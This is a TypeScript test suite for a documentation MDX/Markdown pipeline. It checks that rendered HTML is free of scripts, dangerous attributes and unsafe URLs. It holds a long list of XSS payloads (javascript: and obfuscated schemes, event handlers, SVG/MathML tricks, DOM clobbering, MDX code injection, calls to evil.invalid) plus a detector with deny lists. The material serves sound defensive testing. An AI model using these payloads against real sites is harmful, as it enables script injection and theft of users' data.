import { type DefaultTreeAdapterMap, parseFragment } from 'parse5'
import { aContext, aDraft } from './draft.fixtures.ts'
import { runPipeline } from './pipeline.ts'

type Node = DefaultTreeAdapterMap['node']

const NEVER = new Set(
  (
    'script style iframe object embed applet base link meta form input button select textarea svg math ' +
    'frame frameset template noscript video audio source portal'
  ).split(' '),
)
const ADDRESSES = new Set([
  'href',
  'src',
  'cite',
  'action',
  'formaction',
  'xlink:href',
  'poster',
  'data',
  'background',
  'srcset',
  'ping',
])
const OURS = new RegExp(
  '^(?:docs-[a-z-]+|language-[\\w+#-]{1,40}|data-footnote-backref|footnotes|sr-only|' +
    'contains-task-list|task-list-item|hljs[\\w -]*|shiki[\\w -]*|line|mermaid|token[\\w -]*|' +
    'code-[\\w-]+|tok-[\\w-]+)$',
)

/**
 * Elements and attributes of the page, as a browser parses it, that could run, load, post, restyle
 * or shadow something.
 */
function harmIn(node: Node): string[] {
  const inside = 'childNodes' in node ? node.childNodes.flatMap(harmIn) : []
  if (!('tagName' in node)) return inside
  const ofElement = NEVER.has(node.tagName) ? [`<${node.tagName}>`] : []
  return [
    ...ofElement,
    ...node.attrs
      .filter(({ name, value }) => isHarmful(name, value))
      .map(({ name, value }) => `${name}=${value}`),
    ...inside,
  ]
}

function isHarmful(name: string, value: string): boolean {
  if (
    /^on/i.test(name) ||
    ['srcdoc', 'dangerouslysetinnerhtml', 'style', 'name', 'is', 'slot'].includes(name)
  )
    return true
  if (name === 'class') return value.split(' ').some((word) => word !== '' && !OURS.test(word))
  if (!ADDRESSES.has(name)) return false
  // Browsers drop blanks and control characters from the front and from inside a scheme.
  const address = value.replace(/[\s\p{Cc}]/gu, '')
  return !/^(?:https?:|mailto:|tel:|data:image\/(?:png|jpeg|gif|webp);|[^:]*$|[^:]*[/?#])/i.test(address)
}

const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT src="https://evil.invalid/x.js" />',
  '<img src="javascript:alert(1)" alt="a chart" />',
  '<img src="x.png" alt="a chart" onError="alert(1)" />',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa&#10;ScRiPt:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java%0ascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![a chart](javascript:alert(1))',
  '![a](data:text/html,x)',
  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<svg onload="alert(1)" />',
  '<svg><script>1</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><script>1</script></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<style>{`body{display:none}`}</style>',
  '<div style={{backgroundImage:"url(javascript:1)"}}>x</div>',
  '<div style="position:fixed;inset:0;background:url(https://evil.invalid/)">x</div>',
  '<div class="admin-bar fixed inset-0">x</div>',
  '<div className="admin-bar">x</div>',
  '<form action="https://evil.invalid"><input name="p"/></form>',
  '<form id="location"><button formAction="javascript:1">x</button></form>',
  '<base href="https://evil.invalid/" />',
  '<meta httpEquiv="refresh" content="0;url=javascript:1" />',
  '<link rel="stylesheet" href="https://evil.invalid/x.css" />',
  '<iframe src="https://evil.invalid" />',
  '<iframe srcDoc="<script>1</script>" />',
  '<object data="x" />',
  '<embed src="x" />',
  '<video src="x" onLoadStart="alert(1)" />',
  '<details open onToggle="alert(1)"><summary>x</summary>y</details>',
  '<div dangerouslySetInnerHTML={{__html:"<b>1</b>"}} />',
  '<Note title="x" onClick={()=>1}>hi</Note>',
  '<Card title="<img src=x onerror=alert(1)>">x</Card>',
  '<LinkCard title="x" href="javascript:alert(1)" />',
  '<Card title="x" href="javascript:alert(1)">y</Card>',
  '<Card title="x" href="data:text/html,x">[y](https://example.com)</Card>',
  '<LinkCard title="x" href={"java" + "script:alert(1)"} />',
  '<Card {...{onClick: 1}} />',
  '<Card {...globalThis} />',
  '<a id="location" name="cookie">x</a>',
  '<img id="body" name="getElementById" src="a.png" alt="a chart" />',
  '<constructor />',
  '<__proto__ />',
  '<toString />',
  '<hasOwnProperty>x</hasOwnProperty>',
  '<a.b.c />',
  '<xml:script>1</xml:script>',
  '{eval("1")}',
  '{globalThis.process.exit(1)}',
  '{(() => { while (true) {} })()}',
  '{`${process.env.HOME}`}',
  '{"<script>alert(1)</script>"}',
  '{String.raw`x`}',
  'import fs from "node:fs"\n\nText',
  'export const x = fetch("https://evil.invalid")\n\nText',
  'export default function Page() { return null }\n\nText',
  '```mermaid\ngraph TD\naccTitle: x\nA["<img src=x onerror=alert(1)>"] --> B\nclick A ' +
    '"javascript:alert(1)"\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```js"><script>alert(1)</script>\n1\n```',
  '`<script>alert(1)</script>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '# <img src="x" alt="a chart" onError="1" /> "><script>1</script>',
  '## x" onmouseover="alert(1)',
  '| a |\n|---|\n| <a href="javascript:1">x</a> |',
  '[^1]\n\n[^1]: <a href="javascript:1">x</a>',
  'x [a](https://example.com "\\" onmouseover=\\"alert(1)")',
  '![x" onerror="alert(1)](a.png)',
  '\u202etxt.exe\u202c <b>\u2066x</b>',
  '<p>\u0000</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
  '<template><script>1</script></template>',
  '<![CDATA[<script>1</script>]]>',
  '<!DOCTYPE html><script>1</script>',
]

const htmlOf = (bodyMdx: string, frontmatter: Record<string, unknown> = {}) =>
  runPipeline(aDraft({ bodyMdx, frontmatter }), aContext()).artifacts?.html ?? ''

describe('attacks', () => {
  test.each(ATTACKS)('%j is harmless as MDX and as Markdown', (attack) => {
    for (const html of [htmlOf(attack), htmlOf(attack, { format: 'md' })])
      expect(harmIn(parseFragment(html))).toEqual([])
  })

  test.each(ATTACKS)('%j is harmless between words', (attack) => {
    expect(harmIn(parseFragment(htmlOf(`Before ${attack} after`)))).toEqual([])
  })

  test('front matter that is named like a prototype changes nothing', () => {
    const frontmatter = JSON.parse(
      '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}',
    ) as Record<string, unknown>
    expect(harmIn(parseFragment(htmlOf('Words.', frontmatter)))).toEqual([])
    expect(({} as Record<string, unknown>)['isAdmin']).toBeUndefined()
  })

  test.each([
    ['quotes', '> '.repeat(2_000)],
    ['lists', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n')],
    ['elements', '<div>'.repeat(500) + '</div>'.repeat(500)],
    ['brackets', '['.repeat(3_000)],
    ['backticks', '`a'.repeat(3_000)],
    ['a wide table', `${'|a'.repeat(300)}|\n${'|-'.repeat(300)}|\n`],
  ])('a page deep or wide in %s is reviewed or refused, never an error', (_, bodyMdx) => {
    expect(['pending', 'rejected']).toContain(runPipeline(aDraft({ bodyMdx }), aContext()).decision)
  })

  test('the reader of pages knows harm when it sees it', () => {
    expect(
      harmIn(
        parseFragment(
          '<p onclick="1"><a href="java\nscript:1">x</a><img src="data:text/html,x"><b ' +
            'class="admin">y</b></p>',
        ),
      ),
    ).toHaveLength(4)
    expect(harmIn(parseFragment('<a class="docs-card" href="/a?b=c:d">x</a>'))).toEqual([])
  })
})
